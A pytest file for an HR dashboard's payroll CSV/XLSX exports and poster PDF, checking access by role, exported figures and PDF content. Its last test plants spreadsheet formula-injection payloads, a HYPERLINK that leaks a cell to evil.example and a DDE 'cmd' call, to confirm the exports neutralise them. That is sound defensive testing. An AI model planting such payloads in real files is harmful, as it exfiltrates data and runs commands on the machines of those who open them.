"""Payroll exports of a published month (CSV and XLSX read back) and the wall poster as PDF:
who may download what, and what the files hold."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import flask
import pytest
from flask.testing import FlaskClient
from hr_factories import AGENTS, MONTH, seed_month
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from core.db import session_scope
from dashboard.app import create_app
from dashboard.i18n import t
from dashboard.settings import Settings
from qa.awards.decisions import override_coefficient, resolve_tie
from qa.awards.exports import COLUMNS
from qa.awards.month import compute
from qa.awards.poster import poster_data
from qa.awards.poster_pdf import poster_pdf
from qa.awards.service import publish_month, review_month, revise_month
from qa.people.schemas import AgentIn
from qa.people.service import upsert_agent

CSV_URL = f"/hr/export/{MONTH}.csv"
XLSX_URL = f"/hr/export/{MONTH}.xlsx"
PDF_URL = f"/hr/export/{MONTH}/poster.pdf"


def publish(db: Session) -> None:
    compute(db_session=db, month=MONTH, actor="hr", tz="UTC")
    resolve_tie(db_session=db, month=MONTH, star="model", agent_id="A4", reason="r", actor="hr")
    override_coefficient(db_session=db, month=MONTH, agent_id="A3", coefficient=Decimal("0.9"),
                         reason="Two unreported absences", actor="hr")  # fmt: skip
    review_month(db_session=db, month=MONTH, actor="hr")
    publish_month(db_session=db, month=MONTH, actor="hr")


@pytest.fixture
def app(settings: Settings, sessions: sessionmaker[Session]) -> flask.Flask:
    with session_scope(sessions) as db:
        seed_month(db)
    return create_app(settings)


@pytest.fixture
def client_of(
    app: flask.Flask, make_user: Callable[..., str], login: Callable[..., FlaskClient]
) -> Callable[[str], FlaskClient]:
    return lambda role: login(app.test_client(), make_user(role))


def test_payroll_files_need_a_published_month_and_hr(
    app: flask.Flask, client_of: Callable[[str], FlaskClient], sessions: sessionmaker[Session]
) -> None:
    hr = client_of("hr")
    assert hr.get(CSV_URL).status_code == 404  # nothing published yet
    with session_scope(sessions) as db:
        compute(db_session=db, month=MONTH, actor="hr", tz="UTC")
    missing = hr.get(XLSX_URL)
    assert missing.status_code == 404 and "publish it first" in missing.get_data(as_text=True)
    with session_scope(sessions) as db:
        resolve_tie(db_session=db, month=MONTH, star="model", agent_id="A4", reason="r",
                    actor="hr")  # fmt: skip
        review_month(db_session=db, month=MONTH, actor="hr")
        publish_month(db_session=db, month=MONTH, actor="hr")
    for role, status in (("hr", 200), ("admin", 200), ("supervisor", 403), ("qa", 403),
                         ("agent", 403)):  # fmt: skip
        client = client_of(role)
        assert client.get(CSV_URL).status_code == status, role
        assert client.get(XLSX_URL).status_code == status, role
    assert app.test_client().get(CSV_URL).status_code == 302  # to the login page
    assert hr.get("/hr/export/2026-13.csv").status_code == 404


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_and_xlsx_hold_the_published_figures(
    app: flask.Flask, client_of: Callable[[str], FlaskClient], sessions: sessionmaker[Session]
) -> None:
    with session_scope(sessions) as db:
        publish(db)
    hr = client_of("hr")
    response = hr.get(CSV_URL)
    assert response.mimetype == "text/csv"
    assert "floorboard-payroll-2026-01-r1.csv" in response.headers["Content-Disposition"]
    rows = _csv_rows(response.data)
    assert list(rows[0]) == list(COLUMNS)
    by_id = {r["agent_id"]: r for r in rows}
    assert set(by_id) == {a.agent_id for a in AGENTS}
    a2 = by_id["A2"]
    assert (a2["stars"], a2["coefficient"], a2["deductions_etiquette"]) == ("service", "1.195",
                                                                            "-0.50")  # fmt: skip
    assert (a2["revision"], a2["status"], a2["policy_name"], a2["policy_version"]) == (
        "1", "published", "default", "1"
    )  # fmt: skip
    a3 = by_id["A3"]
    assert (a3["coefficient"], a3["computed_coefficient"]) == ("0.9", "0.995")
    assert (a3["override_reason"], a3["override_by"]) == ("Two unreported absences", "hr")
    assert (by_id["A4"]["stars"], by_id["A6"]["name"]) == ("model", "孙丽")
    book = load_workbook(io.BytesIO(hr.get(XLSX_URL).data))
    sheet = book["Payroll"]
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert cells[0] == list(COLUMNS)
    for line in cells[1:]:
        row = dict(zip(COLUMNS, line, strict=True))
        text = by_id[row["agent_id"]]
        assert row["coefficient"] == pytest.approx(float(text["coefficient"]))
        assert row["deductions_total"] == pytest.approx(float(text["deductions_total"]))
        assert (row["stars"] or "") == text["stars"] and row["revision"] == 1
        assert (row["override_reason"] or "") == text["override_reason"]
    about = dict(book["Month"].iter_rows(values_only=True))
    assert about["status"] == "published" and about["star_service"] == "A2"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", about["published_at"])  # labelled


def test_a_revision_in_progress_does_not_reach_payroll(
    app: flask.Flask, client_of: Callable[[str], FlaskClient], sessions: sessionmaker[Session]
) -> None:
    with session_scope(sessions) as db:
        publish(db)
        revise_month(db_session=db, month=MONTH, reason="recount", actor="hr")
    rows = _csv_rows(client_of("hr").get(CSV_URL).data)
    assert {r["revision"] for r in rows} == {"1"}


def pdf_texts(data: bytes) -> list[str]:
    """The text drawn by an uncompressed reportlab PDF: literal strings of UTF-16BE (CID font)."""
    out = []
    for raw in re.findall(rb"\(((?:[^()\\]|\\.)*)\) Tj", data, re.S):
        unescaped = re.sub(rb"\\([0-7]{1,3}|.)", _unescape, raw)
        out.append(unescaped.decode("utf-16-be", errors="replace"))
    return out


def _unescape(match: re.Match[bytes]) -> bytes:
    code = match.group(1)
    if code.isdigit():
        return bytes([int(code, 8)])
    return {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}.get(code, code)


def test_the_poster_pdf_names_everyone_with_their_stars(sessions: sessionmaker[Session]) -> None:
    with session_scope(sessions) as db:
        seed_month(db)
        publish(db)
        data = poster_data(db_session=db, tz="UTC", month=MONTH)
    assert data is not None
    for size, width in (("A4", "841.8898"), ("A3", "1190.551")):  # landscape, in points
        pdf = poster_pdf(data, translate=t, size=size, compress=False)
        assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
        assert len(re.findall(rb"/Type /Page\b", pdf)) == 1
        assert f"/MediaBox [ 0 0 {width}".encode() in pdf
        text = pdf_texts(pdf)
        joined = "\n".join(text)
        for agent in AGENTS:
            assert agent.name in text, agent.name  # each name drawn as its own string
        assert "★服务之星" in joined and "光荣榜" in joined and "2026年1月" in joined
    compressed = poster_pdf(data, translate=t)
    assert compressed.startswith(b"%PDF-") and len(compressed) < len(pdf)
    with pytest.raises(ValueError, match="paper size"):
        poster_pdf(data, translate=t, size="Letter")


def test_a_long_roll_continues_on_more_pages(sessions: sessionmaker[Session]) -> None:
    with session_scope(sessions) as db:
        seed_month(db)
        publish(db)
        data = poster_data(db_session=db, tz="UTC", month=MONTH)
    assert data is not None
    many = dataclasses.replace(data, agents=data.agents * 60)  # 360 names
    pdf = poster_pdf(many, translate=t, compress=False)
    assert len(re.findall(rb"/Type /Page\b", pdf)) >= 2
    assert pdf_texts(pdf).count("孙丽") == 60


def test_poster_pdf_for_everyone_once_published_drafts_for_hr(
    app: flask.Flask, client_of: Callable[[str], FlaskClient], sessions: sessionmaker[Session]
) -> None:
    agent, hr = client_of("agent"), client_of("hr")
    with session_scope(sessions) as db:
        compute(db_session=db, month=MONTH, actor="hr", tz="UTC")
    assert agent.get(PDF_URL).status_code == 404  # a draft is not shown to the floor
    draft = hr.get(PDF_URL)
    assert draft.status_code == 200 and draft.mimetype == "application/pdf"
    with session_scope(sessions) as db:
        resolve_tie(db_session=db, month=MONTH, star="model", agent_id="A4", reason="r",
                    actor="hr")  # fmt: skip
        review_month(db_session=db, month=MONTH, actor="hr")
        publish_month(db_session=db, month=MONTH, actor="hr")
    response: Any = agent.get(PDF_URL + "?size=a3")
    assert response.status_code == 200 and response.data.startswith(b"%PDF-")
    assert "poster-2026-01-A3.pdf" in response.headers["Content-Disposition"]
    assert agent.get(PDF_URL + "?size=B5").status_code == 404
    assert app.test_client().get(PDF_URL).status_code == 302


def test_payroll_files_neutralise_formulas_and_keep_numbers(
    app: flask.Flask, client_of: Callable[[str], FlaskClient], sessions: sessionmaker[Session]
) -> None:
    evil_name, evil_reason = '=HYPERLINK("http://evil.example/?"&B2,"Li")', "+cmd|' /C calc'!A0"
    with session_scope(sessions) as db:
        upsert_agent(db_session=db, data=AgentIn("A1", evil_name, "North"), actor="test")
        compute(db_session=db, month=MONTH, actor="hr", tz="UTC")
        resolve_tie(db_session=db, month=MONTH, star="model", agent_id="A4", reason="r",
                    actor="hr")  # fmt: skip
        override_coefficient(db_session=db, month=MONTH, agent_id="A3", reason=evil_reason,
                             coefficient=Decimal("0.9"), actor="hr")  # fmt: skip
        review_month(db_session=db, month=MONTH, actor="hr")
        publish_month(db_session=db, month=MONTH, actor="hr")
    hr = client_of("hr")
    by_id = {r["agent_id"]: r for r in _csv_rows(hr.get(CSV_URL).data)}
    assert by_id["A1"]["name"] == "'" + evil_name
    assert by_id["A3"]["override_reason"] == "'" + evil_reason
    assert (by_id["A1"]["deductions_total"], by_id["A1"]["deductions_discipline"]) == (
        "-1.00", "-1.00"
    )  # fmt: skip
    sheet = load_workbook(io.BytesIO(hr.get(XLSX_URL).data))["Payroll"]
    rows = {r[COLUMNS.index("agent_id")].value: r for r in sheet.iter_rows(min_row=2)}
    name = rows["A1"][COLUMNS.index("name")]
    assert (name.value, name.data_type, name.quotePrefix) == (evil_name, "s", True)
    reason = rows["A3"][COLUMNS.index("override_reason")]
    assert (reason.value, reason.data_type, reason.quotePrefix) == (evil_reason, "s", True)
    total = rows["A1"][COLUMNS.index("deductions_total")]
    assert (total.value, total.data_type, total.number_format) == (-1.0, "n", "0.00")
